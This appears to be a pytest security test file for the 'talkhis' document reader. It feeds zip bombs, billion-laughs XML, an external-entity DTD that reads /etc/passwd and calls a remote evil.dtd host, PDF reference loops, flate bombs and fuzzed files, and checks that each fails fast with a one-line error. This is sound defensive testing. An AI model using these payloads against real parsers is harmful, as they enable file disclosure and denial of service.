"""Broken and malicious files: each ends in one clear line (InputError) within its bound.

Bounds checked here: a zip is refused from its directory alone (no inflating); XML never
expands entities or loads anything external (the conftest makes any Python socket fail, and
no file content may leak); PDFs with loops or millions of pages finish in seconds; a 200 MB
file is refused by its size without being read. The fuzz test at the end feeds hundreds of
corrupted variants of every format to ``read_document`` (thousands with ``TALKHIS_FULL_FUZZ=1``).
"""

from __future__ import annotations

import io
import os
import random
import threading
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import make_samples
from talkhis.core.errors import Cancelled, InputError
from talkhis.core.readers import read_document
from talkhis.core.readers.limits import reading_limits

SHORT = (
    "وزارة المياه تطلق خطة جديدة\n"
    "قال الوزير إن الخطة ستبدأ غدا في 12 مدينة. وأضاف أن Peter Gleick رحب بها.\n"
    "تفاصيل الخطة\n"
    "تشمل الخطة إصلاح الشبكات (القديمة) وتركيب عدادات ذكية في المنازل.\n"
)
BILLION_LAUGHS_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
EXTERNAL_DTD = (
    '<!DOCTYPE doc [<!ENTITY passwd SYSTEM "file:///etc/passwd">'
    '<!ENTITY remote SYSTEM "http://198.51.100.7/evil.dtd">]>'
)


def _one_line_error(call, *args, match: str | None = None, seconds: float = 10.0) -> str:
    start = time.monotonic()
    with pytest.raises(InputError) as caught:
        call(*args)
    assert time.monotonic() - start < seconds
    message = str(caught.value)
    assert "\n" not in message and message.strip()
    if match:
        assert match in message, message
    return message


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> dict[str, Path]:
    made = make_samples.make_all(tmp_path_factory.mktemp("small"), SHORT)
    if "pdf" not in made:
        pytest.skip("the PDF samples need DejaVuSans")
    return made


def _rezip(docx: bytes, replace: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
    return out.getvalue()


# ---------------------------------------------------------------------------------- zip


def test_zip_bomb_in_a_docx_is_refused_before_inflating(tmp_path, small):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in zipfile.ZipFile(small["docx"]).infolist():
            archive.writestr(info.filename, zipfile.ZipFile(small["docx"]).read(info.filename))
        with archive.open("word/media/image1.png", "w") as member:  # 64 MiB of zeros, ~64 KB packed
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(64):
                member.write(chunk)
    path = tmp_path / "bomb.docx"
    path.write_bytes(bomb.getvalue())
    assert path.stat().st_size < 200_000
    _one_line_error(read_document, path, match="zip bomb", seconds=2)


def test_a_zip_whose_directory_lies_about_sizes_is_refused_unread(tmp_path, small):
    data = bytearray(small["docx"].read_bytes())
    # Declare 3 GB for every entry in the central directory (signature PK\x01\x02, size at +24).
    position = data.find(b"PK\x01\x02")
    while position != -1:
        data[position + 24:position + 28] = (3_000_000_000).to_bytes(4, "little")
        position = data.find(b"PK\x01\x02", position + 4)
    path = tmp_path / "lies.docx"
    path.write_bytes(bytes(data))
    _one_line_error(read_document, path, seconds=2)


def test_a_zip_with_too_many_entries_is_refused(tmp_path):
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as archive:
        for i in range(5_001):
            archive.writestr(f"word/x{i}.bin", b"")
    path = tmp_path / "many.docx"
    path.write_bytes(many.getvalue())
    _one_line_error(read_document, path, match="parts", seconds=5)


def test_password_protected_zip_is_named(tmp_path, small):
    data = bytearray(small["odt"].read_bytes())
    position = data.find(b"PK\x01\x02")
    while position != -1:  # set the "encrypted" flag bit in the central directory
        data[position + 8] |= 1
        position = data.find(b"PK\x01\x02", position + 4)
    path = tmp_path / "locked.odt"
    path.write_bytes(bytes(data))
    _one_line_error(read_document, path, match="password")


# ---------------------------------------------------------------------------------- XML


@pytest.mark.parametrize("dtd", [BILLION_LAUGHS_DTD, EXTERNAL_DTD], ids=["billion-laughs", "external-entity"])
def test_docx_with_entities_is_refused(tmp_path, small, dtd):
    document_xml = zipfile.ZipFile(small["docx"]).read("word/document.xml")
    head, _, rest = document_xml.partition(b"?>")
    body_ref = b"&lol9;" if "lol" in dtd else b"&passwd;&remote;"
    hostile = head + b"?>" + dtd.encode() + rest.replace(b"<w:t>", b"<w:t>" + body_ref, 1)
    path = tmp_path / "entities.docx"
    path.write_bytes(_rezip(small["docx"].read_bytes(), {"word/document.xml": hostile}))
    _one_line_error(read_document, path, match="entities", seconds=2)


def test_python_docx_parser_itself_expands_nothing():
    """The second line of defence, without our DTD check: python-docx's own lxml parser."""
    from docx.oxml.parser import parse_xml

    start = time.monotonic()
    laughs = f'<?xml version="1.0"?>{BILLION_LAUGHS_DTD}<w:t xmlns:w="urn:x">&lol9;</w:t>'
    try:
        element = parse_xml(laughs.encode())
        assert len("".join(element.itertext())) < 1000
    except Exception as exc:  # refusing is as good as not expanding
        assert "entit" in str(exc).lower() or "amplification" in str(exc).lower()
    external = f'<?xml version="1.0"?>{EXTERNAL_DTD}<w:t xmlns:w="urn:x">&passwd;&remote;</w:t>'
    try:
        text = "".join(parse_xml(external.encode()).itertext())
    except Exception:
        text = ""
    assert "root:" not in text
    assert time.monotonic() - start < 2


@pytest.mark.parametrize("dtd", [BILLION_LAUGHS_DTD, EXTERNAL_DTD], ids=["billion-laughs", "external-entity"])
def test_odt_with_entities_is_refused(tmp_path, dtd):
    reference = "&lol9;" if "lol" in dtd else "&passwd;&remote;"
    content = make_samples.odt_content_xml(SHORT, doctype=dtd, extra_body=f"<text:p>{reference}</text:p>")
    path = tmp_path / "entities.odt"
    path.write_bytes(make_samples.odt_bytes(SHORT, content_xml=content))
    _one_line_error(read_document, path, match="entities", seconds=2)


@pytest.mark.parametrize("dtd", [BILLION_LAUGHS_DTD, EXTERNAL_DTD], ids=["billion-laughs", "external-entity"])
def test_html_with_entities_reads_without_expanding_or_leaking(tmp_path, dtd):
    reference = "&lol9;" if "lol" in dtd else "&passwd; &remote;"
    page = make_samples.html_text(SHORT).replace("<!DOCTYPE html>", dtd.replace("lolz", "html").replace("doc [", "html ["))
    page = page.replace("</article>", f"<p>{reference} نهاية المقال.</p></article>")
    path = tmp_path / "entities.html"
    path.write_text(page, encoding="utf-8")
    start = time.monotonic()
    try:
        text = read_document(path).text
    except InputError:
        text = ""
    assert time.monotonic() - start < 5
    assert "lollol" not in text and "root:" not in text


# ---------------------------------------------------------------------------------- PDF


def _pdf(objects: dict[int, bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from numbered object bodies, with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    xref = out.tell()
    size = max(objects) + 1
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
    for number in range(1, size):
        out.write(b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n")
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_TEXT = _stream(b"BT /F1 12 Tf 72 720 Td (A short English line of text.) Tj ET")


def _page(contents: int = 4, parent: int = 2) -> bytes:
    return (b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>" % (parent, contents))


def test_handmade_pdf_builder_makes_a_readable_pdf(tmp_path):
    path = tmp_path / "ok.pdf"
    path.write_bytes(_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                           3: _page(), 4: _TEXT, 5: _FONT}))
    assert read_document(path).text == "A short English line of text.\n"


@pytest.mark.parametrize(
    "objects",
    [
        # The page tree's Kids point back at the tree itself.
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
         3: _page(), 4: _TEXT, 5: _FONT},
        # Two page-tree nodes that are each other's child.
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
         6: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>", 3: _page(), 4: _TEXT, 5: _FONT},
        # An object that is a reference to itself, used as the page contents.
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: _page(contents=7), 7: b"7 0 R", 5: _FONT},
        # A form XObject that draws itself.
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 8 0 R >> >> >>",
         4: _stream(b"/X Do"), 5: _FONT,
         8: _stream(b"BT /F1 12 Tf 72 720 Td (loop) Tj ET /X Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> "
                    b"/XObject << /X 8 0 R >> >> ")},
    ],
    ids=["kids-loop", "two-node-loop", "self-reference", "xobject-recursion"],
)
def test_pdf_reference_loops_end_quickly(tmp_path, objects):
    path = tmp_path / "loop.pdf"
    path.write_bytes(_pdf(objects))
    start = time.monotonic()
    try:
        read_document(path)
    except InputError as error:
        assert "\n" not in str(error)
    assert time.monotonic() - start < 10


def test_pdf_claiming_millions_of_pages_is_bounded(tmp_path):
    kids = b" ".join([b"3 0 R"] * 90_000)  # 90,000 references to one page, and a /Count of ten million
    path = tmp_path / "millions.pdf"
    path.write_bytes(_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>",
                           2: b"<< /Type /Pages /Kids [" + kids + b"] /Count 10000000 >>",
                           3: _page(), 4: _TEXT, 5: _FONT}))
    start = time.monotonic()
    with reading_limits(max_pages=50):
        try:
            document = read_document(path)
            assert any("read the first 50 of" in note for note in document.notes)
        except InputError as error:
            assert "\n" not in str(error)
    assert time.monotonic() - start < 15


def test_pdf_flate_bomb_page_is_refused(tmp_path):
    bomb = zlib.compress(b"BT /F1 12 Tf 72 720 Td (x) Tj ET\n" + b" " * 80_000_000, 9)
    path = tmp_path / "bomb.pdf"
    path.write_bytes(_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                           3: _page(), 4: _stream(bomb, b"/Filter /FlateDecode "), 5: _FONT}))
    _one_line_error(read_document, path, match="damaged or too complex", seconds=10)


def test_password_protected_pdf_gets_a_clear_message(tmp_path, small):
    import pypdf

    writer = pypdf.PdfWriter(clone_from=str(small["pdf"]))
    writer.encrypt("secret", algorithm="AES-256")
    locked = tmp_path / "locked.pdf"
    writer.write(locked)
    _one_line_error(read_document, locked, match="password-protected")


def test_pdf_locked_only_against_editing_opens(tmp_path, small):
    import pypdf

    writer = pypdf.PdfWriter(clone_from=str(small["pdf"]))
    writer.encrypt("", owner_password="owner", algorithm="AES-128")
    path = tmp_path / "owner-only.pdf"
    writer.write(path)
    assert read_document(path).text == read_document(small["pdf"]).text


def test_scanned_pdf_without_text_layer(tmp_path):
    drawing = _stream(b"0 0 1 rg 72 72 300 300 re f")
    path = tmp_path / "scan.pdf"
    path.write_bytes(_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                           3: _page(), 4: drawing, 5: _FONT}))
    _one_line_error(read_document, path, match="no text layer")


def test_cancel_and_time_budget_stop_a_pdf(small):
    event = threading.Event()
    event.set()
    with reading_limits(cancel=event), pytest.raises(Cancelled):
        read_document(small["pdf"])
    with reading_limits(time_budget=0.0):
        _one_line_error(read_document, small["pdf"], match="gave up")


def test_page_limit_keeps_the_first_pages_with_a_note(tmp_path):
    path = make_samples.write_pdfs(tmp_path)["pdf"]
    with reading_limits(max_pages=1):
        document = read_document(path)
    assert any(note.startswith("read the first 1 of 2 pages") for note in document.notes)


# ------------------------------------------------------------------------ every format


KINDS = ["txt", "docx", "odt", "html", "mhtml", "eml", "rtf", "pdf", "pdf-forms"]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("fraction", [0.0001, 0.1, 0.5, 0.9, 0.999])
def test_truncated_files_end_in_a_document_or_a_clear_error(tmp_path, small, kind, fraction):
    data = small[kind].read_bytes()
    path = tmp_path / small[kind].name
    path.write_bytes(data[: max(1, int(len(data) * fraction))])
    start = time.monotonic()
    try:
        read_document(path)
    except InputError as error:
        assert "\n" not in str(error) and str(path) in str(error)
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("suffix", [".docx", ".pdf", ".odt", ".rtf", ".html", ".eml", ".doc", ".txt", ""])
def test_empty_file_of_every_kind(tmp_path, suffix):
    path = tmp_path / f"empty{suffix}"
    path.write_bytes(b"")
    _one_line_error(read_document, path, match="empty")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.docx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20),
        ("random.pdf", bytes(random.Random(4).randrange(256) for _ in range(5000))),
        ("archive.odt", b"PK\x03\x04" + b"\x00" * 100),
        ("hollow.rtf", b"{\\rtf1 " + b"{\\b " * 5000 + b"}" * 5001),
        ("headers.eml", b"From: a@b\nTo: c@d\n\n"),
        ("nothing.html", b"<!DOCTYPE html><html><head><title></title></head><body><script>x()</script></body></html>"),
    ],
)
def test_lying_or_hollow_files_get_a_clear_message(tmp_path, name, content):
    path = tmp_path / name
    path.write_bytes(content)
    _one_line_error(read_document, path)


def test_a_200_mb_file_is_refused_by_size_without_reading_it(tmp_path):
    path = tmp_path / "huge.pdf"
    with path.open("wb") as handle:  # sparse: 200 MB on paper, nothing on disk
        handle.truncate(200 * 1024 * 1024)
    _one_line_error(read_document, path, match="over the 20 MB limit", seconds=0.5)


@pytest.mark.parametrize("name", ["تقرير الوزارة.docx", "with  spaces .pdf", "-starts-with-dash.odt",
                                  "no-extension", "نقطة.في.الاسم.html", "UPPER.RTF"])
def test_odd_file_names(tmp_path, small, name):
    kind = {"docx": "docx", "pdf": "pdf", "odt": "odt", "html": "html", "rtf": "rtf"}.get(
        name.rsplit(".", 1)[-1].lower(), "eml")
    path = tmp_path / name
    path.write_bytes(small[kind].read_bytes())
    document = read_document(path)
    assert document.path == str(path) and "وزارة المياه تطلق خطة جديدة\n" in document.text


# ----------------------------------------------------------------------------------- fuzz

_TOKENS = [b"\x00", b"\xff\xfe", b"<", b">", b"&", b"&lol;", b"<!DOCTYPE x [<!ENTITY a 'b'>]>", b"<w:p>", b"</w:p>",
           b"obj", b"endobj", b" 0 R", b"stream", b"endstream", b"/Kids [", b"/Count 99999999", b"trailer",
           b"%%EOF", b"xref", b"{", b"}", b"\\u-1234?", b"\\'ff", b"{\\*", b"PK\x03\x04", b"PK\x01\x02",
           b"Content-Type: multipart/mixed; boundary=x\n", b"--x\n", b"=?utf-8?b?", b"9" * 20, b"-1", b"\n\n"]


def _mutate(data: bytes, plan: list[tuple[int, int, int, bytes]]) -> bytes:
    buffer = bytearray(data)
    for op, position, length, blob in plan:
        if not buffer:
            buffer = bytearray(blob or b"x")
        at = position % len(buffer)
        if op == 0:  # flip one byte
            buffer[at] ^= (length % 255) + 1
        elif op == 1:  # truncate
            del buffer[max(at, 1):]
        elif op == 2:  # insert random bytes
            buffer[at:at] = blob
        elif op == 3:  # delete a slice
            del buffer[at:at + 1 + length % 512]
        elif op == 4:  # duplicate a slice
            buffer[at:at] = buffer[at:at + 1 + length % 2048]
        elif op == 5:  # insert a token that parsers treat specially
            buffer[at:at] = _TOKENS[length % len(_TOKENS)]
        elif op == 6:  # overwrite with a token
            token = _TOKENS[length % len(_TOKENS)]
            buffer[at:at + len(token)] = token
    return bytes(buffer)


def _mutate_zip(data: bytes, plan, part_choice: int) -> bytes:
    """Structure-aware: mutate one XML part and zip it again, so the parsers see the damage."""
    source = zipfile.ZipFile(io.BytesIO(data))
    names = [n for n in source.namelist() if n.endswith((".xml", ".rels"))]
    target = names[part_choice % len(names)]
    for preferred in ("word/document.xml", "content.xml"):
        if preferred in names and part_choice % 3:
            target = preferred
    return _rezip(data, {target: _mutate(source.read(target), plan)})


_PLAN = st.lists(
    st.tuples(st.integers(0, 6), st.integers(0, 2**31), st.integers(0, 2**16), st.binary(min_size=1, max_size=24)),
    min_size=1,
    max_size=5,
)
# (format, examples) of the full run: 7,000 variants in all, ~40 s on two idle cores and ~200 s on a
# loaded machine (heavier parsers get fewer). By default a twentieth of each (at least 25, ~360 in
# all, a few seconds) runs, always the same ones (derandomized); TALKHIS_FULL_FUZZ=1 runs them all.
_FULL_FUZZ = [("docx", 800), ("odt", 1200), ("pdf", 700), ("pdf-forms", 600), ("html", 500), ("mhtml", 300),
              ("eml", 800), ("rtf", 1500), ("txt", 600)]
FULL_FUZZ = os.environ.get("TALKHIS_FULL_FUZZ", "") not in ("", "0")
_FUZZ = _FULL_FUZZ if FULL_FUZZ else [(kind, max(25, examples // 20)) for kind, examples in _FULL_FUZZ]


@pytest.fixture(scope="module")
def fuzz_dir(tmp_path_factory):
    return tmp_path_factory.mktemp("fuzz")


@pytest.mark.slow
@pytest.mark.parametrize(("kind", "examples"), _FUZZ, ids=[k for k, _ in _FUZZ])
def test_fuzzed_files_end_in_a_document_or_our_error(small, fuzz_dir, kind, examples):
    seed = small[kind].read_bytes()
    path = fuzz_dir / small[kind].name
    slowest = [0.0]

    @settings(max_examples=examples, deadline=None, database=None, derandomize=True,
              suppress_health_check=list(HealthCheck))
    @given(plan=_PLAN, structural=st.booleans(), part=st.integers(0, 50))
    def run(plan, structural, part):
        data = _mutate_zip(seed, plan, part) if structural and kind in ("docx", "odt") else _mutate(seed, plan)
        path.write_bytes(data)
        start = time.monotonic()
        try:
            document = read_document(path)
            assert isinstance(document.text, str)
        except InputError as error:
            assert "\n" not in str(error)
        elapsed = time.monotonic() - start
        slowest[0] = max(slowest[0], elapsed)
        assert elapsed < 5, f"{kind}: one variant took {elapsed:.1f} s"

    run()
    print(f"{kind}: {examples} variants, slowest {slowest[0] * 1000:.0f} ms")
